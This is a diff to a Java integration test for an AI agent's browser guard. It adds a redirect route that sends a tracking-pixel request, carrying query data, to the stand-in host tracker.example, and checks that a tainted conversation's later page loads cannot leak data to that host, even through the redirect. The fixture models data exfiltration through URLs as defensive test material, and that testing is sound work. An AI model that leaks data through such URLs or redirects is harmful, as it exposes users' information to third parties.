@@ -125,8 +125,17 @@ class BrowserGuardIT {
             200,
             "<title>Tracked</title><body>a page with a tracker<img src=\"http://tracker.example:"
                 + site.getAddress().getPort() + "/pixel?" + ex.getRequestURI().getRawQuery()
-                + "\"></body>",
+                + "\"><img src=\"/hop?" + ex.getRequestURI().getRawQuery() + "\"></body>",
             "text/html");
+      case "/hop" -> {
+        // The approved host's own image, redirected: the browser follows it without the route.
+        ex.getResponseHeaders()
+            .add(
+                "Location",
+                "http://tracker.example:" + site.getAddress().getPort() + "/pixel?hop-"
+                    + ex.getRequestURI().getRawQuery());
+        respond(ex, 302, "", "text/plain");
+      }
       case "/pixel" -> {
         pixelHits.add(ex.getRequestURI().getRawQuery());
         respond(ex, 200, "GIF89a", "image/gif");
@@ -217,7 +226,10 @@ class BrowserGuardIT {
         conversation));
     assertTrue(clean.ok(), String.valueOf(clean.error()));
     Thread.sleep(300);
-    assertEquals(List.of("d=first"), pixelHits, "a clean conversation's page loads as it is");
+    assertEquals(
+        java.util.Set.of("d=first", "hop-d=first"),
+        java.util.Set.copyOf(pixelHits),
+        "a clean conversation's page loads as it is");
     // The page it read has tainted the conversation: the next visit, unasked, keeps its
     // requests to the allowed hosts, so what the model put in the address reaches no one else.
     ToolResult kept = agent.execute(new dev.steward.protocol.method.Execute.Params(
@@ -230,7 +242,10 @@ class BrowserGuardIT {
         conversation));
     assertTrue(kept.ok(), String.valueOf(kept.error()));
     Thread.sleep(300);
-    assertEquals(List.of("d=first"), pixelHits, "the tracker heard nothing of the second visit");
+    assertEquals(
+        java.util.Set.of("d=first", "hop-d=first"),
+        java.util.Set.copyOf(pixelHits),
+        "the tracker heard nothing of the second visit, not even through a redirect");
     assertTrue(
         kept.value().path("blocked").toString().contains("tracker.example"),
         kept.value().toString());
